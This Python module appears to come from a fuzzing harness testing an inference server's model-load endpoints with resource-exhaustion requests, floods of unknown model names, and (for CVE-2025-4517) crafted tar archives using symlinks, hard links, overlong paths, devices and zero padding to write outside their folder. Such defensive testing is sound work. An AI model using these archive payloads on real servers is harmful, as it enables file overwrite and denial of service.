"""Loads of models whose configuration or files come with the request: dear ones, and such as leave their folder."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Mapping, Sequence
from functools import cached_property
from itertools import count
from pathlib import Path
from typing import ClassVar, Final
from urllib.parse import quote

from fuzz.attacks.attack import Attack
from fuzz.attacks.models import build_many
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import field, framed, greeting, request_block, unary

__all__ = ["VICTIM", "HostileEnvironments", "UnknownLoads", "WarmupCounts"]

_BLOCK: Final = request_block("/inference.GRPCInferenceService/RepositoryModelLoad")
_UNLOAD_BLOCK: Final = request_block("/inference.GRPCInferenceService/RepositoryModelUnload")
#: How names of models begin that are looked for in other ways.
_ODD: Final = ("m", "a\u0301 ", ".", "%2e")
_FILE: Final = tarfile.REGTYPE
_FOLDER: Final = tarfile.DIRTYPE
_LINK: Final = tarfile.SYMTYPE
_HARD: Final = tarfile.LNKTYPE
#: What no archive may make.
VICTIM: Final = "toutates-victim"


def _load(model: str, config: Mapping[str, object], files: Mapping[str, bytes] | None = None) -> bytes:
    """A request to load a model: parameter "config" is a string, files are bytes."""
    parameters = field(3, field(1, b"config") + field(2, field(3, json.dumps(config).encode())))
    for name, content in (files or {}).items():
        parameters += field(3, field(1, f"file:{name}".encode()) + field(2, field(4, content)))
    return framed(field(2, model.encode()) + parameters)


class _Loads(Attack):
    """One load after the other, of a server whose models are loaded by request.

    Attributes:
        bodies: of the requests, in turns.
    """

    connections: ClassVar = 2

    @cached_property
    def bodies(self) -> Sequence[bytes]:
        """The length-prefixed messages."""
        raise NotImplementedError

    def flags(self, folder: Path) -> Sequence[str]:
        """See ``Attack``."""
        return ("--model-control-mode", "explicit", "--load-models", "victim")

    def prepare(self) -> None:
        """See ``Attack``."""
        assert self.bodies

    async def strike(self, peer: Peer) -> None:
        """See ``Attack``."""
        await peer.send(greeting())
        for number in count():
            await peer.send(unary(2 * number + 1, _BLOCK, self.bodies[number % len(self.bodies)]), 1)
            while peer.answered <= number:
                await peer.wait_answer()


class WarmupCounts(_Loads):
    """A small override that wants a million runs."""

    name = "warm-up-counts"
    summary = "loads of a model with a warm-up sample of 8 x 250,000 elements and a `count` of 1,000,000"
    limit = "1,000 runs of a version, none repeated after 10 s; loads take `--model-load-thread-count` threads"
    stops = ("grpc-status 0",)

    @cached_property
    def bodies(self) -> Sequence[bytes]:
        """See ``_Loads``."""
        # Each another one than the one before, or nothing would be loaded anew.
        return [self._body(length) for length in range(250_000, 250_100)]

    def _body(self, length: int) -> bytes:
        tensor = {"data_type": "TYPE_FP32", "dims": [length], "zero_data": True}
        sample = {"name": "dear", "batch_size": 8, "count": 1_000_000, "inputs": {"INPUT": tensor}}
        config = {
            "backend": "onnxruntime",
            "max_batch_size": 8,
            "input": [{"name": "INPUT", "data_type": "TYPE_FP32", "dims": [-1]}],
            "output": [{"name": "OUTPUT", "data_type": "TYPE_FP32", "dims": [-1]}],
            "model_warmup": [sample],
        }
        return _load("shapes", config)


class UnknownLoads(_Loads):
    """Names that nobody has, each another one: plain, odd, and in letters that are spelled in two ways."""

    name = "unknown-loads"
    summary = "8 connections, half of them HTTP/1.1, that load and unload 32 models at a time which no repository has"
    limit = "256 calls wait; names that come together are looked for together, in one thread for each repository"
    stops = ("grpc-status 13",)
    connections = 8
    at_once = 32

    def flags(self, folder: Path) -> Sequence[str]:
        """See ``Attack``: a thousand models are there."""
        build_many(folder / "models", 1_000)
        return super().flags(folder)

    def prepare(self) -> None:
        """See ``Attack``."""

    async def strike(self, peer: Peer) -> None:
        """See ``Attack``."""
        own = peer.tally.connections
        speaks_http1 = own % 2
        await peer.send(b"" if speaks_http1 else greeting())
        for sent in count(0, self.at_once):
            numbers = range(sent, sent + self.at_once)
            names = [f"{_ODD[number % len(_ODD)]}{own}-{number}" for number in numbers]
            await peer.send(b"".join(map(_rest if speaks_http1 else _rpc, numbers, names)), self.at_once)
            while peer.answered < sent + self.at_once:
                await peer.wait_answer()


def _rpc(number: int, name: str) -> bytes:
    block = _UNLOAD_BLOCK if number % 8 == 7 else _BLOCK
    return unary(2 * number + 1, block, framed(field(2, name.encode())))


def _rest(number: int, name: str) -> bytes:
    way = "unload" if number % 8 == 7 else "load"
    path = f"/v2/repository/models/{quote(name)}/{way}"
    return f"POST {path} HTTP/1.1\r\nhost: a\r\ncontent-length: 0\r\n\r\n".encode()


class HostileEnvironments(_Loads):
    """Archives of an environment that want to write elsewhere, or are broken."""

    name = "hostile-environments"
    cve = "CVE-2025-4517"
    summary = "loads of a Python model whose EXECUTION_ENV_PATH is an archive with links out of it, a device, or zeros"
    limit = "each entry is made in its real parent, by descriptor, through no link; a refused archive leaves nothing"
    stops = ("grpc-status 3", "grpc-status 13", "grpc-status 14")

    @cached_property
    def bodies(self) -> Sequence[bytes]:
        """See ``_Loads``."""
        config = {
            "backend": "python",
            "input": [{"name": "INPUT", "data_type": "TYPE_FP32", "dims": [1]}],
            "output": [{"name": "OUTPUT", "data_type": "TYPE_FP32", "dims": [1]}],
            "parameters": {"EXECUTION_ENV_PATH": {"string_value": "$$TRITON_MODEL_DIRECTORY/env.tar.gz"}},
        }
        hostile: list[list[tuple[str, bytes, str]]] = [
            _links_longer_than_paths(),
            [("out", _LINK, "../.."), (f"out/{VICTIM}", _FILE, "evil")],
            [("a", _LINK, f"../../{VICTIM}"), ("a", _FILE, "evil")],
            [(f"../../{VICTIM}", _FILE, "evil")],
            [("a", tarfile.CHRTYPE, "")],
            [("zeros", _FILE, "0" * 50_000_000)],
        ]
        return [_load("stranger", config, {"1/model.py": b"", "env.tar.gz": _archive(entries)}) for entries in hostile]


def _archive(entries: Sequence[tuple[str, bytes, str]]) -> bytes:
    """A tar of these: name, kind, and what a file has or where a link leads."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, kind, text in entries:
            member = tarfile.TarInfo(name)
            member.type = kind
            if kind == _FILE:
                member.size = len(text)
            else:
                member.linkname = text
            archive.addfile(member, io.BytesIO(text.encode()) if kind == _FILE else None)
    return made.getvalue()


def _links_longer_than_paths() -> list[tuple[str, bytes, str]]:
    """Links whose path is longer than what the system takes, so that libraries do not see where they lead."""
    entries: list[tuple[str, bytes, str]] = []
    path, component = "", "d" * 247
    steps = "abcdefghijklmno"
    for step in steps:
        entries += [(path + component, _FOLDER, ""), (path + step, _LINK, component)]
        path += component + "/"
    way = "/".join(steps) + "/" + "l" * 254
    entries += [(way, _LINK, "../" * len(steps)), ("escape", _LINK, way + "/../..")]
    return [*entries, ("flag", _HARD, f"escape/{VICTIM}"), ("flag", _FILE, "evil")]
